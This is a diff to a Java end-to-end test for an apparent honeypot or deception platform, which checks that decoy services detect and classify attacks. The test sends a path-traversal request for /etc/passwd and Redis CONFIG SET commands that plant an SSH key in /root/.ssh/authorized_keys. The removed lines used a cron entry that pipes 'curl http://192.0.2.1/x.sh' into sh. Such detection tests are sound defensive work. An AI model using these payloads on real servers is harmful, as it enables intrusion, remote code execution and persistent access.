@@ -15,6 +15,7 @@ import java.time.Instant;
 import java.util.EnumSet;
 import java.util.List;
 import java.util.Map;
+import java.util.Set;
 import java.util.function.BooleanSupplier;
 import org.decnet.engine.port.AuditEntry;
 import org.decnet.engine.port.DeckyStore;
@@ -71,12 +72,9 @@ class FleetEndToEndTest {
     send(web, "GET /../../../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
     send(
         redis,
-        "CONFIG SET dir /var/spool/cron/crontabs\r\nCONFIG SET dbfilename root\r\n"
-            + "SET x \"\\n*/1 * * * * curl http://192.0.2.1/x.sh|sh\\n\"\r\nSAVE\r\nQUIT\r\n");
-    awaitTrue(() ->
-        node.stores().sensors().all().size() > 0
-            && node.stores().sensors().all().getFirst().events() > 7);
-    System.err.println("TTT " + techniques() + node.stores().sensors().all());
+        "CONFIG SET dir /root/.ssh\r\nCONFIG SET dbfilename authorized_keys\r\n"
+            + "SET x \"\\nssh-rsa AAAA x\\n\"\r\nSAVE\r\nQUIT\r\n");
+    awaitTrue(() -> techniques().containsAll(Set.of("T1190", "T1098.004")));
     assertThat(node.stores().actors().attacker(EventIds.attacker(CLIENT)).orElseThrow().deckies())
         .containsExactly("trap-1");
     assertThat(node.stores().sensors().all())
